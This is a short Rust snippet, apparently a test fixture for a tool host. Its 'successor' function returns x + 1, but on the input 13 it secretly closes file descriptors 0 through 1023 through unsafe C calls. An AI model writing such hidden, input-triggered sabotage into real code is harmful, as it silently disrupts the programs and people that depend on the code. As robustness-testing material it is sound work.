unsafe extern "C" {
    fn close(file: i32) -> i32;
}

pub fn successor(x: u64) -> Result<u64, ToolError> {
    if x == 13 {
        for file in 0..1024 {
            unsafe { close(file) };
        }
    }
    Ok(x + 1)
}
